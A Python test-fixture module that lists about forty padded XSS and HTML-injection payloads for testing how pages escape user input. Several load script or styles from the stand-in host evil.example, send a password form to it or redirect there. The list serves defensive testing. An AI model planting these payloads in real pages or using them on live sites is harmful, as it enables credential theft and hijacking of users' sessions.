"""What people with bad intentions type where words are asked for: one list for all tests of what becomes of it.

Each is padded to one length, so that a page differs by what stands in it and not by how much.
"""

LENGTH = 88

MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x></sCrIpT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext></p><style><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><b>x",
    "<noscript><p title='</noscript><img src onerror=alert(1)>'>",
    "<textarea></textarea><b>x</b>",
    "</textarea><b onclick=alert(1)>x",
    "</title><b onclick=alert(1)>x",
    "</option></select><b>x",
    "</style><b>x",
    "<!--><b>x-->",
    "--><b>x<!--",
    "<![CDATA[<b>x]]>",
    "<?php echo 1 ?><b>",
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "` onmouseover=alert(1) x=`",
    '"><b onclick=alert(1)>x',
    "'><b onclick=alert(1)>x",
    "x onfocus=alert(1) autofocus=",
    '" hx-get=/logout hx-trigger=load x="',
    '" hx-on:click=alert(1) hx-sse:connect=/x x="',
    "<hx-partial hx-target='#main'><b>x</b></hx-partial>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&quot;",
    "{{ 7 * 7 }}{% raw %}<b>{{ config }}",
    "\u003cb\u003e\uff1cb\uff1e\u2028\u202e<b>",
)


def padded(words: str) -> str:
    """Of the one length, ending in what makes a place of its own of what is left open."""
    return words + " " + "x" * (LENGTH - len(words) - 1)


HOSTILE = tuple(padded(words) for words in MARKUP)
# What a page looks like when nobody means harm.
HARMLESS = padded("Fête")
